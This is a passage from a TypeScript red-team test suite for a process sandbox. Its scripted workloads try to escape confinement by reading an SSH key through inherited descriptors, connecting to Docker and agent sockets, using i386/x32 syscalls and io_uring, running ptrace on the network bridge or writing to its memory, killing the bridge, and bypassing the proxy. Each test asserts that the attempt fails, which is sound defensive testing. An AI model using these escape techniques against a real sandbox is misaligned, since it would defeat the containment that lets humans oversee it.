          DBUS_SESSION_BUS_ADDRESS: `unix:path=${join(xdg, 'bus')}`,
        },
      },
    );
    assert.match(s.stdout, /^leaked: 0$/m, show(s));
    assert.equal(resultOf(s.stdout, `unix ${join(f.workspace, 'docker.sock')}`), 'EPERM');
    assert.equal(resultOf(s.stdout, `unix ${join(f.home, 'agent.sock')}`), 'EPERM');
    assert.match(resultOf(s.stdout, `unix ${join(xdg, 'bus')}`), /^(EPERM|ENOENT)$/);
    assert.match(s.stdout, /^run: perimeter $/m, '/run holds only the session helper');
    assert.match(s.stdout, /\/var\/run.*No such file/);
    assert.match(s.stdout, /\/tmp\/\.X11-unix.*No such file/);
    assert.equal(
      docker.connections + agent.connections + bus.connections,
      0,
      'no host socket heard anything',
    );
    assertEndedNormally(s, 2);
    assertStartLists(s, 'seccomp', 'socket(AF_UNIX)');
  },
);

void test(
  'redteam-18 inherited descriptors (a secret file, a connected socket) are closed before the workload runs',
  { skip },
  async (t) => {
    const f = fixture(t);
    const server = await trap(t);
    const file = openSync(join(f.home, '.ssh/id_rsa'), 'r');
    const sock: Socket = await new Promise((ok) => {
      const c = connect(server.port, '127.0.0.1', () => ok(c));
    });
    t.after(() => sock.destroy());
    const s = await runSession(
      f,
      [
        // The shell's own descriptors, listed by a child (a command substitution would add a pipe).
        'ls /proc/$$/fd > /tmp/fds',
        'echo "fds: $(sort -n /tmp/fds | tr "\\n" " ")"',
        'cat <&3; echo "read3=$?"',
        'echo leak >&4; echo "write4=$?"',
        'true',
      ].join('\n'),
      { extraFds: [file, sock] },
    );
    assert.match(s.stdout, /^fds: 0 1 2 (255 )?$/m, show(s));
    assert.match(s.stdout, /read3=1/);
    assert.match(s.stdout, /write4=1/);
    assertNoLeak(s);
    await new Promise((r) => setTimeout(r, 100));
    assert.equal(Buffer.concat(server.received).length, 0, 'nothing arrived on the inherited socket');
    assertEndedNormally(s);
  },
);

/** Host controls, computed once: whether this kernel runs i386 and x32 system calls at all. */
const hostSupports = (call: string): boolean => !skipProbe && /: OK /.test(hostProbe([call]));
const HAS_IA32 = hostSupports('int80-socket');
const HAS_X32 = hostSupports('x32-socket');

void test(
  'redteam-19 seccomp: AF_UNIX through socket() is refused and the i386 socketcall entry point kills the process',
  {
    skip:
      skipProbe || (HAS_IA32 ? false : 'this kernel has no i386 emulation: int 0x80 cannot be tried here'),
  },
  async (t) => {
    const f = fixture(t);
    installProbe(f);
    const s = await runSession(
      f,
      [
        './probe int80-socket; echo "int80=$?"',
        './probe socket-unix',
        // A connected pair reaches no one: allowed, and harmless.
        './probe socketpair-unix',
        'true',
      ].join('\n'),
    );
    assert.match(s.stdout, /int80=159/, `SIGSYS (128+31): the foreign ABI kills the process\n${show(s)}`);
    assert.match(s.stdout, /socket-unix: FAIL EPERM/);
    assert.match(s.stdout, /socketpair-unix: OK/);
    assertEndedNormally(s);
    assertStartLists(s, 'seccomp', 'foreign system-call ABIs');
    assertStartLists(s, 'seccomp', 'socket(AF_UNIX)');
  },
);

void test(
  'redteam-19 seccomp: x32 system-call numbers are refused',
  {
    skip:
      skipProbe ||
      (HAS_X32
        ? false
        : "this kernel has no x32 ABI (the host refuses x32 calls too); the filter's x32 branch is covered by packages/sandbox/test/seccomp-filter.test.ts"),
  },
  async (t) => {
    const f = fixture(t);
    installProbe(f);
    const s = await runSession(f, './probe x32-socket');
    assert.match(s.stdout, /x32-socket: FAIL ENOSYS/, show(s));
    assertEndedNormally(s, 1);
    assertStartLists(s, 'seccomp', 'x32');
  },
);

void test(
  'redteam-20 io_uring cannot be set up (so no IORING_OP_SOCKET / OP_CONNECT / OP_OPENAT)',
  { skip: skipProbe },
  async (t) => {
    const f = fixture(t);
    installProbe(f);
    const control = hostProbe(['io_uring_setup']);
    const s = await runSession(f, './probe io_uring_setup');
    assert.match(s.stdout, /io_uring_setup: FAIL EPERM/, show(s));
    if (/: OK /.test(control)) t.diagnostic('control: the host sets up io_uring');
    else t.diagnostic(`control: the host refuses io_uring too (${control.trim()})`);
    assertEndedNormally(s, 1);
    assertStartLists(s, 'seccomp', 'io_uring_setup');
  },
);

const FIND_HELPERS = [
  'INIT=$PPID',
  'BRIDGE=$(for p in /proc/[0-9]*; do n=${p#/proc/}; [ "$n" != "$INIT" ] && tr "\\0" " " < $p/cmdline 2>/dev/null | grep -q "^/run/perimeter/init" && echo $n; done | head -1)',
  'echo "helpers: init=$INIT bridge=$BRIDGE"',
];

void test(
  'redteam-21 the network bridge and init cannot be traced, read or written by the workload',
  { skip: skipProbe },
  async (t) => {
    const f = fixture(t);
    installProbe(f);
    const s = await runSession(
      f,
      [
        ...FIND_HELPERS,
        './probe ptrace-attach $BRIDGE',
        './probe ptrace-attach $INIT',
        './probe process_vm_readv $BRIDGE',
        './probe process_vm_writev $BRIDGE',
        'head -c 16 /proc/$BRIDGE/mem 2>&1; echo',
        'echo x 2>&1 > /proc/$BRIDGE/mem; echo "memwrite=$?"',
        'true',
      ].join('\n'),
    );
    assert.match(s.stdout, /helpers: init=\d+ bridge=\d+/, show(s));
    assert.match(s.stdout, /ptrace-attach \d+|ptrace-attach: FAIL EPERM/);
    assert.equal((s.stdout.match(/ptrace-attach: FAIL EPERM/g) ?? []).length, 2);
    assert.match(s.stdout, /process_vm_readv: FAIL EPERM/);
    assert.match(s.stdout, /process_vm_writev: FAIL EPERM/);
    assert.match(s.stdout, /mem: Permission denied/);
    assert.match(s.stdout, /memwrite=1/);
    assertEndedNormally(s);
    for (const call of ['ptrace', 'process_vm_readv', 'process_vm_writev'])
      assertStartLists(s, 'seccomp', call);
  },
);

void test(
  'redteam-22 killing the in-sandbox bridge only loses connectivity, never widens it',
  { skip },
  async (t) => {
    const f = fixture(t);
    const o = await origin(t);
    const hidden = await trap(t);
    const s = await runSession(
      f,
      [
        ...FIND_HELPERS,
        `curl -s -o /dev/null -w 'before=%{http_code}\\n' --noproxy '' http://127.0.0.1:${o.port}/`,
        'kill -9 $BRIDGE; sleep 0.1',
        `curl -s -o /dev/null -w 'after=%{http_code}\\n' --noproxy '' http://127.0.0.1:${o.port}/; echo "curl=$?"`,
        'python3 rt.py tcp 1.1.1.1 443',
        `python3 rt.py tcp 127.0.0.1 ${hidden.port}`,
      ].join('\n'),
      { policy: policyYaml(f, { originPorts: [o.port] }) },
    );
    assert.match(s.stdout, /before=200/, show(s));
    assert.match(s.stdout, /after=000/);
    assert.match(s.stdout, /curl=7/);
    assert.match(resultOf(s.stdout, 'tcp 1.1.1.1 443'), /^(ENETUNREACH|ECONNREFUSED)$/);
    assert.equal(resultOf(s.stdout, `tcp 127.0.0.1 ${hidden.port}`), 'ECONNREFUSED');
    assert.equal(hidden.connections, 0);
    assertEndedNormally(s);
    assert.equal(
      networkEvents(s, new RegExp(`127\\.0\\.0\\.1:${o.port}`)).filter((e) => e.decision === 'allow').length,
      1,
      'only the request before the kill was decided',
    );
    assert.deepEqual(networkEvents(s, /1\.1\.1\.1/), [], 'after the kill nothing reaches the proxy at all');
  },
);

void test(
  'redteam-23 clients that ignore *_PROXY (node fetch, python without proxies, curl --noproxy) fail closed',
  { skip },
  async (t) => {
    const f = fixture(t);
    const server = await trap(t);
    const nodeFetch = (url: string): string =>
      `node -e "fetch('${url}').then(() => console.log('fetch ${url}: OK'), (e) => console.log('fetch ${url}:', e.cause?.code ?? e.message))"`;
    const s = await runSession(
      f,
      [
        nodeFetch('http://1.1.1.1/'),
        nodeFetch('http://example.com/'),
        nodeFetch(`http://127.0.0.1:${server.port}/`),
        `python3 -c "import urllib.request as u; o = u.build_opener(u.ProxyHandler({}))
try: o.open('http://1.1.1.1/', timeout=3); print('urllib: OK')
except Exception as e: print('urllib:', getattr(e, 'reason', e))"`,
        `curl -sS --max-time 3 --noproxy '*' http://allowed.test/; echo "curl=$?"`,
      ].join('\n'),
    );
    // Node 20's fetch sometimes exits without settling when a captured connection is cut before
    // its first byte; whatever it prints, it never gets a response.
    assert.doesNotMatch(s.stdout, /fetch http:\/\/1\.1\.1\.1\/: OK/, show(s));
    // Node's fetch follows the proxy (the session's preload or NODE_USE_ENV_PROXY), which refuses
    // example.com; without the proxy there would be no resolver inside (EAI_AGAIN). Never a response.
    assert.match(s.stdout, /fetch http:\/\/example\.com\/: (EAI_AGAIN|fetch failed)/, show(s));
    assert.match(s.stdout, new RegExp(`fetch http://127\\.0\\.0\\.1:${server.port}/: ECONNREFUSED`));
    assert.match(s.stdout, /urllib: \[Errno (101|104)\] (Network is unreachable|Connection reset by peer)/);
    assert.match(s.stdout, /curl=6/);
    assert.equal(server.connections, 0);
    assertEndedNormally(s);
    assertStartLists(s, 'network', 'loopback only');
    const network = s.events.filter((e) => e.request?.surface === 'network');
    assert.ok(
      network.every((e) => e.decision === 'deny'),
      'nothing was allowed',
    );
    if (isCaptureOn(s)) assertNetworkDenied(s, '1.1.1.1:80', /^Denied/);
    else assert.deepEqual(network, [], 'none of them went through the proxy');
  },
);
